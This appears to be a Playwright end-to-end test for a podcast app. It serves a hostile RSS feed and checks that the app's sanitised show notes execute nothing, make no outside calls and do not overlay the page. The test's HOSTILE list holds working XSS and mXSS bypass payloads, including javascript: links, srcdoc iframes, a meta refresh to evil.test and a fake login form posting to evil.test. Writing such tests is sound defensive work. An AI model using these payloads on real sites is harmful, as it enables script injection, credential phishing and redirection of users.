import { createServer, type Server } from 'node:http';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { openBrowser } from '../set-up/open-browser.ts';
import { signUp, type Session } from '../set-up/session.ts';
import { until } from '../set-up/until.ts';

const { publicUrl, mediaPort } = inject('product');

/** What feeds have brought along: each sets `globalThis.stolen`, calls home or takes over the page, should it be let. */
const HOSTILE = [
  '<script>globalThis.stolen = 1</script>',
  '<scr<script>ipt>globalThis.stolen = 1</script>',
  '<img src=x onerror="globalThis.stolen = 1">',
  '<img src="/beacon">',
  '<svg onload="globalThis.stolen = 1"><animate onbegin="globalThis.stolen = 1" attributeName="x"></svg>',
  '<svg><script>globalThis.stolen = 1</script></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=globalThis.stolen=1&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror="globalThis.stolen = 1">',
  '<noscript><p title="</noscript><img src=x onerror=globalThis.stolen=1>"></noscript>',
  '<template><img src=x onerror="globalThis.stolen = 1"></template>',
  '<iframe srcdoc="<script>parent.stolen = 1</script>"></iframe>',
  '<object data="data:text/html,<script>parent.stolen=1</script>"></object><embed src="javascript:parent.stolen=1">',
  '<a href="javascript:globalThis.stolen=1" id="link">press</a>',
  '<a href="JaVa\tScript:globalThis.stolen=1">press</a>',
  '<a href="data:text/html,<script>1</script>">press</a>',
  '<a href="https://example.com/" onclick="globalThis.stolen = 1" style="position:fixed;inset:0;z-index:9999">cover</a>',
  '<style>body { display: none !important }</style><link rel="stylesheet" href="/beacon">',
  '<base href="https://evil.test/"><meta http-equiv="refresh" content="0; url=https://evil.test/">',
  '<form action="https://evil.test/"><input name="password" autofocus onfocus="globalThis.stolen = 1"><button>Sign in</button></form>',
  '<details open ontoggle="globalThis.stolen = 1"><summary>more</summary></details>',
  '<p style="position:fixed;top:0;left:0;width:100vw;height:100vh">over all</p>',
  '<video><source onerror="globalThis.stolen = 1"></video><marquee onstart="globalThis.stolen = 1">x</marquee>',
  `${'<b>'.repeat(3000)}deep${'</b>'.repeat(3000)}`,
  `<p>${'w'.repeat(5000)}</p>`,
  '<p>unclosed <i>and <b>crossed</i></b> &lt;b&gt; &#0; &notanentity;',
];
// First, because some of what follows swallows everything behind it.
const NOTES = `<p>The honest beginning of the notes</p>\n${HOSTILE.join('\n')}`;

let server: Server;
let browser: Browser;
let page: Page;
let session: Session;
let place = '';
const called: string[] = [];

beforeAll(async () => {
  const feed = `<?xml version="1.0"?><rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel><title>Hostile</title><item>
    <title>Episode &lt;img src=x onerror="globalThis.stolen=1"&gt;</title><guid>1</guid>
    <content:encoded><![CDATA[${NOTES}]]></content:encoded>
    <enclosure url="http://127.0.0.1:${mediaPort}/1.mp3" length="1000" type="audio/mpeg"/></item></channel></rss>`;
  server = createServer((request, response) => {
    if (request.url === '/hostile.xml') response.writeHead(200, { 'content-type': 'application/rss+xml' }).end(feed);
    else response.writeHead(404).end();
  });
  await new Promise<void>((resolve) => void server.listen(mediaPort, '127.0.0.1', resolve));
  session = await signUp(publicUrl);
  const { data } = await session.send(
    'mutation($input: AddPodcastInput!) { addPodcast(input: $input) { ... on AddPodcastPayload { podcast { id } } } }',
    { input: { feedUrl: `http://127.0.0.1:${mediaPort}/hostile.xml` } },
  );
  const { id } = data.addPodcast.podcast;
  place = await until(async () => {
    const asked = await session.send('query($id: ID!) { podcast(id: $id) { episodes(first: 1) { edges { node { id } } } } }', { id });
    const episode = asked.data?.podcast.episodes.edges[0]?.node.id as string | undefined;
    return episode && `/podcasts/${id}/episodes/${episode}`;
  });
  browser = await openBrowser();
  page = await browser.newPage({ viewport: { width: 1280, height: 900 } });
  const [name, value] = session.cookie.split('=') as [string, string];
  await page.context().addCookies([{ name, value, url: publicUrl }]);
  page.on('request', (request) => {
    const { origin, pathname } = new URL(request.url());
    if (origin !== publicUrl || pathname === '/beacon') called.push(request.url());
  });
  page.on('dialog', (dialog) => void dialog.dismiss());
});
afterAll(async () => {
  await browser?.close();
  server?.closeAllConnections();
  server?.close();
});

async function lookAtNotes(): Promise<void> {
  await page.goto(publicUrl + place);
  await page.getByRole('tab', { name: 'Notes and files' }).click();
  await page.getByText('The honest beginning of the notes').waitFor();
  await page.waitForTimeout(500);
}

/** What of it all is left to do harm: nothing. */
async function harm(): Promise<Record<string, unknown>> {
  return await page.evaluate(`(() => {
    const notes = [...document.querySelectorAll('main *')].findLast((e) => e.textContent.includes('The honest beginning')).closest('div');
    const all = [...notes.querySelectorAll('*')];
    return {
      stolen: globalThis.stolen ?? null,
      elements: all.filter((e) => /^(script|style|iframe|object|embed|svg|math|form|input|link|meta|base|img|video|template)$/.test(e.localName)).length,
      handlers: all.flatMap((e) => e.getAttributeNames()).filter((name) => name.startsWith('on') || name === 'style' || name === 'id').length,
      links: all.filter((e) => e.localName === 'a').map((e) => e.protocol).filter((p) => p !== 'https:'),
      isOver: document.elementFromPoint(5, 5).closest('[class*=text]') === notes,
      isWide: document.documentElement.scrollWidth > document.documentElement.clientWidth,
      isVisible: getComputedStyle(document.body).display !== 'none',
    };
  })()`);
}
const NONE = { stolen: null, elements: 0, handlers: 0, links: [], isOver: false, isWide: false, isVisible: true };

describe('show notes of a stranger', () => {
  it('are shown without anything that runs, calls home or covers the page', async () => {
    await lookAtNotes();
    expect(await harm()).toEqual(NONE);
    expect(new URL(page.url()).origin).toBe(publicUrl);
    expect(called).toEqual([]);
  });
});
